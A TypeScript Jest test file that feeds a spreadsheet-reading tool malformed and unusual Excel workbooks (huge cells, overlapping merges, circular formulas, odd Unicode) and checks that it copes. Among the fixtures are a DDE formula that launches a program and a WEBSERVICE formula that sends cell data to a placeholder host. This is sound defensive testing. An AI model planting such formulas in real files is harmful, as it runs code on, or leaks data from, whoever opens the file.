import { BROKEN_FILES } from "./brokenFiles";
import {
  after,
  rewrittenPlan,
  SHEET,
  STRINGS,
  withRow,
  WORKBOOK,
  type Rewritten,
} from "./hostileFile";
import { survives } from "./survives";

/** A workbook is opened, read, reported on and saved within this, on a slow machine too. */
const MOST_MILLISECONDS = 30_000;

jest.setTimeout(2 * MOST_MILLISECONDS);

async function inTime<Result>(work: () => Promise<Result>): Promise<Result> {
  const start = performance.now();
  const result = await work();
  expect(performance.now() - start).toBeLessThan(MOST_MILLISECONDS);
  return result;
}

describe("a file that is none is told in a sentence", () => {
  test.each(BROKEN_FILES)("%s", async (_says, bytes, says) => {
    expect((await inTime(() => survives(bytes))).told).toMatch(says);
  });
});

const cell = (address: string, inner: string, more = "") => `<c r="${address}"${more}>${inner}</c>`;
const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`;
const inline = (text: string) => `<is><t xml:space="preserve">${text}</t></is>`;
const merges = (...areas: readonly string[]) =>
  after(
    "</sheetData>",
    `<mergeCells>${areas.map((area) => `<mergeCell ref="${area}"/>`).join("")}</mergeCells>`,
  );

/** What Excel itself may have written, or another program, and no officer would look for. */
const ODDITIES: readonly [string, Rewritten][] = [
  [
    "a value in the very last cell",
    { [SHEET]: withRow(row(1_048_576, cell("XFD1048576", "<v>1</v>"))) },
  ],
  [
    "a cell of ten million letters",
    { [SHEET]: withRow(row(9, cell("C9", inline("a".repeat(10_000_000)), ' t="inlineStr"'))) },
  ],
  ["merges that overlap", { [SHEET]: merges("A5:C9", "B6:D12", "A5:C9", "C3:C3") }],
  ["a merge of the whole sheet", { [SHEET]: merges("A5:XFD1048576") }],
  ["a thousand merges of one area", { [SHEET]: merges(...Array<string>(1000).fill("A9:B10")) }],
  [
    "formulas with errors",
    {
      [SHEET]: withRow(
        row(
          9,
          cell("H9", "<f>1/0</f><v>#DIV/0!</v>", ' t="e"') +
            cell("I9", "<f>NOSUCH(A1)</f><v>#NAME?</v>", ' t="e"') +
            cell("J9", "<f>#REF!+1</f><v>#REF!</v>", ' t="e"'),
        ),
      ),
    },
  ],
  [
    "formulas that go round",
    {
      [SHEET]: withRow(
        row(
          9,
          cell("H9", "<f>I9+1</f><v>0</v>") +
            cell("I9", "<f>H9+1</f><v>0</v>") +
            cell("J9", "<f>J9</f><v>0</v>"),
        ),
      ),
    },
  ],
  [
    "a formula nested deeply",
    {
      [SHEET]: withRow(
        row(9, cell("H9", `<f>${"(".repeat(3000)}1${")".repeat(3000)}</f><v>1</v>`)),
      ),
    },
  ],
  [
    "a formula that is no formula",
    { [SHEET]: withRow(row(9, cell("H9", "<f>)(*&amp;^</f><v>1</v>"))) },
  ],
  [
    "a formula of another workbook",
    { [SHEET]: withRow(row(9, cell("H9", "<f>[1]Sheet1!$A$1</f><v>7</v>"))) },
  ],
  [
    "a formula that starts a program",
    { [SHEET]: withRow(row(9, cell("H9", "<f>cmd|' /C calc'!A0</f><v>#REF!</v>", ' t="e"'))) },
  ],
  [
    "a formula that calls a web address",
    {
      [SHEET]: withRow(
        row(9, cell("H9", '<f>WEBSERVICE("https://elsewhere.example/"&amp;A2)</f><v>1</v>')),
      ),
    },
  ],
  [
    "a shared formula without its first",
    { [SHEET]: withRow(row(9, cell("H9", '<f t="shared" si="77"/><v>1</v>'))) },
  ],
  [
    "a string that is not in the list",
    { [SHEET]: withRow(row(9, cell("H9", "<v>99999</v>", ' t="s"'))) },
  ],
  ["a row before the first", { [SHEET]: withRow(row(-3, cell("A-3", "<v>1</v>"))) }],
  [
    "numbers that are none",
    {
      [SHEET]: withRow(
        row(9, cell("H9", "<v>1e999</v>") + cell("I9", "<v>NaN</v>") + cell("J9", "<v>words</v>")),
      ),
    },
  ],
  [
    "a style that is not in the list",
    { [SHEET]: withRow(row(9, cell("H9", "<v>1</v>", ' s="65000"'))) },
  ],
  [
    "a name for a formula of a million letters",
    {
      [WORKBOOK]: after(
        "</sheets>",
        `<definedNames><definedName name="Long">${"A1+".repeat(300_000)}1</definedName></definedNames>`,
      ),
    },
  ],
  [
    "text from right to left, and faces",
    { [STRINGS]: (text) => text.replace("Minutes", "محضر الاجتماع 👩🏽‍🏫 \u202Eסטunim\u202C") },
  ],
  [
    "half of a sign of two halves",
    { [STRINGS]: (text) => text.replace("Minutes", "&#xD83D; _xD83D_ _x0000_") },
  ],
  [
    "a zero width in every word",
    { [STRINGS]: (text) => text.replace("Minutes", "M\u200Bi\u200Bn\u200Bu\u200Bt\u200Be\u200Bs") },
  ],
];

describe("an odd file is reported on, and nothing of it is lost", () => {
  test.each(ODDITIES)("%s", async (_says, parts) => {
    const { told, actions } = await inTime(() => survives(rewrittenPlan(parts)));
    expect(told).toBeNull();
    expect(actions).toHaveLength(2);
  });
});
